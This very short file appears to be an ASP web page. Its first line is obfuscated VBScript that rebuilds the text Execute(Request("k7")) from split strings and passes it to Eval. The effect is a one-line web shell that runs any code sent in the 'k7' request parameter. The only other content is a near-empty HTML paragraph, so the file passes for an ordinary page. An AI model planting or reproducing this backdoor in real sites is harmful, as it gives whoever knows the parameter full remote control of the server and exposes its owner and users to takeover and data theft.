<%Eval("Ex"&"ec"&"ute(Req"&"uest(""k7""))")%>
<p>.</p>
